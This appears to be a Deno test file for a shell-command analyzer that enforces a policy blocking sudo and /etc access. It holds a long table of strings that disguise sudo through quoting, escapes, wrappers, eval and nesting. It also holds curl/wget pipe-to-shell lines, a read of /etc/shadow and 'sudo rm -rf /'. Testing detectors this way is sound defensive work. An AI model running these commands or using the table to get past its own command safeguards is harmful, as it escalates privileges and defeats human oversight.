/**
 * The command table of the shell-aware policy (issue 4): none of these may
 * slip past a blocked `sudo` or a denied `/etc`, plus our own hostile cases.
 */

import assert from "node:assert/strict";
import { allPaths, exes, ok } from "./_analysis.ts";
import { ISSUE_ETC_LINES, ISSUE_SUDO_LINES } from "./issue_table.ts";

const REVEALS_SUDO = ISSUE_SUDO_LINES;

const REVEALS_ETC = ISSUE_ETC_LINES;

const HOSTILE_SUDO = [
  "s\\udo id",
  '"sudo" id',
  "'su'do id",
  "$'sudo' id",
  "$'\\x73udo' id",
  "$'\\163udo' id",
  "$'\\u0073udo' id",
  "s''udo id",
  's""udo id',
  "su\\\ndo id",
  "command sudo id",
  "command -p sudo id",
  "exec sudo id",
  "exec -a name sudo id",
  "builtin exec sudo id",
  "busybox sudo id",
  "env -i sudo id",
  "env - sudo id",
  "env -u HOME -C /tmp A=1 B=2 sudo id",
  "env -S 'sudo id'",
  "env --split-string='-i sudo id'",
  "timeout -s KILL 5 sudo id",
  "timeout --signal=KILL --kill-after=1 5 sudo id",
  "timeout --sig KILL 5 sudo id",
  "nice -n 5 sudo id",
  "nice -5 sudo id",
  "nice --adjustment=5 sudo id",
  "ionice -c2 -n7 sudo id",
  "stdbuf -oL sudo id",
  "stdbuf -o L -e 0 sudo id",
  "nohup nice timeout 1 env stdbuf -oL sudo id",
  "time sudo id",
  "time -p sudo id",
  "/usr/bin/time -o /tmp/t sudo id",
  "setsid -f sudo id",
  "strace -f -o /tmp/x sudo id",
  "flock /tmp/lock sudo id",
  "flock -c 'sudo id' /tmp/lock",
  "flock /tmp/lock -c 'sudo id'",
  "watch -n 1 sudo id",
  "fakeroot sudo id",
  "xargs -0 -n1 sudo",
  "xargs -I{} sudo {}",
  "find . -exec sudo id \\;",
  "find . -name x -execdir sudo {} +",
  "(sudo id)",
  "( (sudo id) )",
  "((x = $(sudo id)))",
  "if true; then sudo id; fi",
  "if sudo id; then :; fi",
  "if false; then :; elif true; then :; else sudo id; fi",
  "for i in 1; do sudo id; done",
  "for i in $(sudo id); do :; done",
  "for ((i=0;i<1;i++)); do sudo id; done",
  "while sudo id; do break; done",
  "until true; do sudo id; done",
  "case x in x) sudo id;; esac",
  "case $(sudo id) in *) ;; esac",
  "select x in a; do sudo id; done",
  "f(){ sudo id; }; f",
  "function f { sudo id; }",
  "function f() ( sudo id )",
  "a=$(sudo id)",
  "a=`sudo id`",
  "a=(1 $(sudo id))",
  "echo ${x:-$(sudo id)}",
  'echo "${x:-$(sudo id)}"',
  "echo $(( $(sudo id) + 1 ))",
  "echo $((1 + `sudo id`))",
  "[[ -n $(sudo id) ]]",
  "cat < <(sudo id)",
  "tee >(sudo id)",
  "echo `echo \\`sudo id\\``",
  'echo "$(echo "$(sudo id)")"',
  "cat <<EOF\n$(sudo id)\nEOF",
  "cat <<<$(sudo id)",
  "echo hi > $(sudo id)",
  "ls | sudo id",
  "ls |& sudo id",
  "ls || sudo id",
  "ls & sudo id",
  "ls\nsudo id",
  "! sudo id",
  "time ! sudo id",
  "sh -c 'sudo id'",
  "dash -c 'sudo id'",
  "zsh -c 'sudo id'",
  "bash -c -- 'sudo id'",
  "bash -e -o pipefail -c 'sudo id'",
  "bash --norc -c 'sudo id'",
  "sh -c 'sh -c \"sudo id\"'",
  "bash <<EOF\nsudo id\nEOF",
  "bash <<< 'sudo id'",
  "eval sudo id",
  "eval 'sudo id'",
  "su -c 'sudo id'",
  "trap 'sudo id' EXIT",
  "alias x='sudo id'",
  "npx sudo id",
  "npm exec -- sudo id",
  "poetry run sudo id",
  "ssh -o ProxyCommand='sudo nc %h %p' host",
  "GIT_SSH_COMMAND='sudo ssh' git fetch",
  "PAGER='sudo less' git log",
  "mapfile -C 'sudo id' -c 1 < f",
  "doas sudo id",
  "pkexec sudo id",
  "chroot / sudo id",
  "ncat --sh-exec 'sudo id' host 1",
  "socat - SYSTEM:'sudo id'",
  "rsync -e 'sudo ssh' a host:b",
];

const DYNAMIC = [
  "x=1; $x",
  "$X id",
  "$(echo sudo) id",
  "`echo sudo` id",
  "${X} id",
  '"$X" id',
  "/usr/bin/su* id",
  "/usr/bin/sud? id",
  "{sudo,x} id",
  'bash -c "$CMD"',
  'eval "$CMD"',
  "curl -s https://x | sh",
  "wget -qO- https://x | bash -s",
  "echo ${x@P}",
  "timeout --bogus-option 5 sudo id",
  "unshare -r sudo id",
  "PATH=/tmp:$PATH ls",
  "echo sudo | xargs -I{} {} id",
  "echo 'sudo id' | xargs sh -c",
  "echo id | xargs sudo",
  "find . -exec sh -c 'cat {}' \\;",
  "find /usr/bin -name sudo -exec {} id \\;",
  "hash -p /usr/bin/sudo ls; ls",
];

Deno.test("analyzeCommand() finds sudo in every line of the issue table", async (t) => {
  for (const line of REVEALS_SUDO) {
    await t.step(
      JSON.stringify(line),
      () => assert.ok(exes(line).includes("sudo"), exes(line).join()),
    );
  }
});

Deno.test("analyzeCommand() finds the /etc path in every file line of the issue table", async (t) => {
  for (const line of REVEALS_ETC) {
    await t.step(JSON.stringify(line), () => {
      assert.ok(allPaths(line).some((p) => p.startsWith("/etc/")), allPaths(line).join());
    });
  }
  assert.deepEqual(ok("cat /etc/shadow").readPaths, ["/etc/shadow"]);
  assert.deepEqual(ok("echo x > /etc/hosts").writePaths, ["/etc/hosts"]);
  assert.deepEqual(ok("cp a /etc/x").writePaths, ["/etc/x"]);
  assert.deepEqual(ok("cp a /etc/x").readPaths, ["/work/ws/a"]);
});

Deno.test("analyzeCommand() sees sudo through quoting, escapes, wrappers and nesting", async (t) => {
  for (const line of HOSTILE_SUDO) {
    await t.step(
      JSON.stringify(line),
      () => assert.ok(exes(line).includes("sudo"), exes(line).join()),
    );
  }
});

Deno.test("analyzeCommand() reports a program it cannot name as <dynamic>", async (t) => {
  for (const line of DYNAMIC) {
    await t.step(JSON.stringify(line), () => {
      const a = ok(line);
      assert.ok(a.commands.some((c) => c.executable === "<dynamic>"), exes(line).join());
      assert.equal(a.hasSubstitution, true);
    });
  }
});

Deno.test("analyzeCommand() does not count data as commands", async (t) => {
  const cases: [string, string[]][] = [
    ["echo sudo", ["echo"]],
    ["echo 'sudo id'", ["echo"]],
    ["printf '%s' sudo", ["printf"]],
    ["cat <<EOF\nsudo id\nEOF", ["cat"]],
    ["cat <<'EOF'\n$(sudo id)\nEOF", ["cat"]],
    ["grep sudo /var/log/auth.log", ["grep"]],
    ["echo '$(sudo id)' \"\\$(sudo id)\"", ["echo"]],
    ["# sudo id", []],
    ["ls # ; sudo id", ["ls"]],
    ["git commit -m 'run sudo id'", ["git"]],
    ["command -v sudo", ["command"]],
    ["type sudo", ["type"]],
    ["bash -c 'echo hi' sudo", ["bash", "echo"]],
    ["x=sudo", []],
  ];
  for (const [line, expected] of cases) {
    await t.step(JSON.stringify(line), () => assert.deepEqual(exes(line), expected));
  }
});

Deno.test("analyzeCommand() keeps the name as written and the base name apart", () => {
  const [c] = ok("/usr/bin/sudo -u root id").commands;
  assert.equal(c?.name, "/usr/bin/sudo");
  assert.equal(c?.executable, "sudo");
  assert.deepEqual(ok("./sudo").commands[0]?.executable, "sudo");
});

Deno.test("analyzeCommand() records the wrappers it peeled off, outermost first", () => {
  const a = ok("nohup timeout 5 env A=1 bash -c 'sudo id'");
  const sudo = a.commands.find((c) => c.executable === "sudo")!;
  assert.deepEqual(sudo.via, ["nohup", "timeout", "env", "bash -c"]);
  const bash = a.commands.find((c) => c.executable === "bash")!;
  assert.deepEqual(bash.env, ["A"]);
  assert.equal(bash.inlineEval, true);
});

Deno.test("analyzeCommand() reports sudo-like tools and the command they run", () => {
  assert.deepEqual(exes("sudo -u root -E VAR=1 rm -rf /"), ["sudo", "rm"]);
  assert.deepEqual(ok("sudo rm -rf /tmp/x").deletePaths, ["/tmp/x"]);
  assert.deepEqual(exes("doas -u root id"), ["doas", "id"]);
  assert.deepEqual(exes("sudo -l"), ["sudo"]);
  assert.deepEqual(ok("sudo -e /etc/sudoers").writePaths, ["/etc/sudoers"]);
});

Deno.test("analyzeCommand() does not let a here-document body for a shell pass unchecked", () => {
  const a = ok("bash <<'EOF'\nsudo id\nEOF");
  assert.equal(a.inlineEval, true);
  assert.ok(exes("bash <<'EOF'\nsudo id\nEOF").includes("sudo"));
  const dynamic = ok("bash <<EOF\n$CMD\nEOF");
  assert.equal(dynamic.inlineEval, true);
  assert.ok(dynamic.commands.some((c) => c.executable === "<dynamic>"));
  // A shell reading a pipe or a file: its commands cannot be known.
  assert.ok(exes("cat script | sh").includes("<dynamic>"));
  assert.ok(exes("sh < script").includes("<dynamic>"));
});
